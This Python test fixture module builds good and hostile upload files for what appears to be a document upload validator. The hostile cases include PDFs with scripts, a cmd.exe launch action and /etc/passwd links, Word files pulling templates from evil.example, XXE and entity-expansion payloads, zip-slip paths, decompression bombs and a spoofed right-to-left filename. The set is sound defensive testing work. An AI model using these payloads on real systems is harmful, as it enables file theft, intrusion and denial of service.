"""Files for the upload tests, made by the libraries that programs use, and then spoiled in every way we know."""

import io
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from PIL import Image

OOXML = "application/vnd.openxmlformats-officedocument"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **save: object) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **save)  # type: ignore[arg-type]
    return out.getvalue()


def archive(parts: dict[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return out.getvalue()


def office(kind: str = "docx", types: str = "", rels: str = "", parts: dict[str, bytes | str] | None = None) -> bytes:
    main = {"docx": "wordprocessingml.document", "xlsx": "spreadsheetml.sheet"}[kind]
    return archive(
        {
            "[Content_Types].xml": f"<Types><Override ContentType='{OOXML}.{main}.main+xml'/>{types}</Types>",
            "_rels/.rels": f'<Relationships xmlns="{RELS}">{rels}</Relationships>',
            "word/document.xml": "<document><body/></document>",
            **(parts or {}),
        }
    )


def relation(kind: str, target: str, mode: str = "External") -> str:
    return f'<Relationship Id="r1" Type="{OFFICE_RELS}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def odt(manifest: str = "", content: str = "<content/>", **parts: bytes | str) -> bytes:
    return archive(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "META-INF/manifest.xml": f"<manifest>{manifest}</manifest>",
            "content.xml": content,
            **parts,
        }
    )


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), mode: str = "RGB", **save: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, kind, **save)
    return out.getvalue()


def flood() -> bytes:
    """A PNG of a few bytes that says it is 60,000 × 60,000."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + name + data + zlib.crc32(name + data).to_bytes(4, "big")

    head = (60_000).to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00"
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def _script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _launch(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def _attachment(document: pikepdf.Pdf) -> None:
    document.attachments["virus.exe"] = b"MZ"


def _page_action(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1"))


def _link(uri: str) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 9, 9],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=uri),
        )
        document.pages[0].obj.Annots = document.make_indirect(pikepdf.Array([note]))

    return change


def _form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Array([]), Fields=pikepdf.Array([]))


def _note(kind: str) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(kind), Rect=[0, 0, 9, 9])
        document.pages[0].obj.Annots = pikepdf.Array([note])

    return change


GOOD: dict[str, tuple[str, bytes]] = {
    "a plain PDF": ("Báo cáo quý I.pdf", pdf()),
    "a PDF with a web link": ("b.pdf", pdf(_link("https://tayninh.gov.vn"))),
    "a PDF with compressed objects": ("c.PDF", pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    "a Word file": ("Dự thảo.docx", office()),
    "a Word file with a web link": (
        "d.docx",
        office(
            parts={
                "word/_rels/document.xml.rels": f'<Relationships xmlns="{RELS}">{relation("hyperlink", "https://tayninh.gov.vn")}</Relationships>'
            }
        ),
    ),
    "an Excel file": ("Số liệu.xlsx", office("xlsx")),
    "an OpenDocument text": ("e.odt", odt()),
    "a PNG": ("Ảnh.png", picture()),
    "a PNG with a palette": ("f.png", picture(mode="P")),
    "a transparent PNG": ("chữ ký.png", picture(mode="RGBA")),
    "a JPEG": ("g.jpg", picture("JPEG")),
    "a JPEG in print colours": ("h.jpeg", picture("JPEG", mode="CMYK")),
    "a name of 300 characters": ("x" * 300 + ".pdf", pdf()),
    "a name with a path": ("../../etc/passwd.pdf", pdf()),
    "a file about secrecy rules": ("Quy định bảo mật.pdf", pdf()),
}

BAD: dict[str, tuple[str, bytes]] = {
    "an empty file": ("a.pdf", b""),
    "HTML named PDF": ("a.pdf", b"<html><script>alert(1)</script></html>"),
    "HTML before a PDF": ("a.pdf", b"<html>" + pdf()),
    "a PDF with an archive behind it": ("a.pdf", pdf() + archive({"x": b"y" * 5000}, zipfile.ZIP_STORED)),
    "half a PDF": ("a.pdf", pdf()[:200]),
    "a PDF head and noise": ("a.pdf", b"%PDF-1.7\n" + b"x" * 500 + b"\n%%EOF"),
    "a PDF script at opening": ("a.pdf", pdf(_script)),
    "a PDF script in compressed objects": ("a.pdf", pdf(_script, object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    "a PDF that launches": ("a.pdf", pdf(_launch)),
    "a PDF with a file in it": ("a.pdf", pdf(_attachment)),
    "a PDF with a page action": ("a.pdf", pdf(_page_action)),
    "a PDF with a script link": ("a.pdf", pdf(_link("JavaScript:alert(1)"))),
    "a PDF with a link to local files": ("a.pdf", pdf(_link("file:///etc/passwd"))),
    "a PDF with an XFA form": ("a.pdf", pdf(_form)),
    "a PDF with rich media": ("a.pdf", pdf(_note("/RichMedia"))),
    "a PDF with an attached note": ("a.pdf", pdf(_note("/FileAttachment"))),
    "a locked PDF": ("a.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="u"))),
    "a PDF with an owner's lock": ("a.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user=""))),
    "a program": ("a.exe", b"MZ\x90"),
    "a program called PDF": ("a.pdf", b"MZ\x90" + b"\0" * 500),
    "a program behind two endings": ("a.pdf.exe", pdf()),
    "a program behind a turned name": ("a\u202efdp.exe", pdf()),
    "no ending": ("a", pdf()),
    "SVG": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>"),
    "SVG called PNG": ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>"),
    "HTML": ("a.html", b"<html>"),
    "an archive": ("a.zip", archive({"a": b"b"})),
    "an archive called Word": ("a.docx", archive({"a": b"b"})),
    "an old Word file": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    "an old Word file with a new name": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500),
    "Excel called Word": ("a.docx", office("xlsx")),
    "OpenDocument called Word": ("a.docx", odt()),
    "a Word file with macros": ("a.docm", office()),
    "a Word file with a macro part": ("a.docx", office(parts={"word/vbaProject.bin": b"x"})),
    "a Word file whose type says macros": (
        "a.docx",
        office(types='<Override PartName="/a" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
    ),
    "a Word file with a template elsewhere": (
        "a.docx",
        office(
            parts={
                "word/_rels/settings.xml.rels": f'<Relationships xmlns="{RELS}">{relation("attachedTemplate", "http://evil.example/t.dotm")}</Relationships>'
            }
        ),
    ),
    "a Word file with a picture elsewhere": ("a.docx", office(rels=relation("image", "\\\\evil\\share\\x.png"))),
    "a Word file with a script link": ("a.docx", office(rels=relation("hyperlink", "javascript:alert(1)"))),
    "a Word file with an embedded object": ("a.docx", office(parts={"word/embeddings/oleObject1.bin": b"x"})),
    "an Excel file with outside links": (
        "a.xlsx",
        office("xlsx", parts={"xl/externalLinks/externalLink1.xml": "<x/>"}),
    ),
    "an Excel file with an ActiveX part": ("a.xlsx", office("xlsx", parts={"xl/activeX/activeX1.bin": b"x"})),
    "a Word file with outside entities": (
        "a.docx",
        office(parts={"word/document.xml": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"}),
    ),
    "a Word file with a laugh bomb": (
        "a.docx",
        office(parts={"word/document.xml": "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>]><x>&b;</x>"}),
    ),
    "a Word file with broken XML": ("a.docx", office(parts={"word/document.xml": "<a><b></a>"})),
    "a zip bomb": ("a.docx", office(parts={"word/media/image1.png": b"\0" * 30_000_000})),
    "2,001 parts": ("a.docx", office(parts={f"word/{n}.xml": "" for n in range(2001)})),
    "a part outside the archive": ("a.docx", office(parts={"../../evil.xml": "<x/>"})),
    "half an archive": ("a.docx", office()[:300]),
    "an OpenDocument with scripts": ("a.odt", odt(**{"Basic/Standard/script-lb.xml": "<x/>"})),
    "a locked OpenDocument": ("a.odt", odt(manifest="<encryption-data/>")),
    "another OpenDocument kind": ("a.odt", archive({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"})),
    "a picture of 3.6 thousand million pixels": ("a.png", flood()),
    "a JPEG called PNG": ("a.png", picture("JPEG")),
    "half a PNG": ("a.png", picture(size=(300, 300))[:100]),
    "a PNG head and noise": ("a.png", b"\x89PNG\r\n\x1a\n" + b"x" * 200),
    "a GIF": ("a.gif", picture("GIF")),
    "a GIF called JPEG": ("a.jpg", picture("GIF")),
    "a top secret file": ("Báo cáo TUYỆT MẬT.pdf", pdf()),
    "a secret file": ("[MẬT] Kế hoạch.pdf", pdf()),
    "a secret file without accents": ("TOI_MAT_ke_hoach.pdf", pdf()),
    "a secret file in decomposed letters": ("TO\u0302\u0301I MA\u0323\u0302T.pdf", pdf()),
}
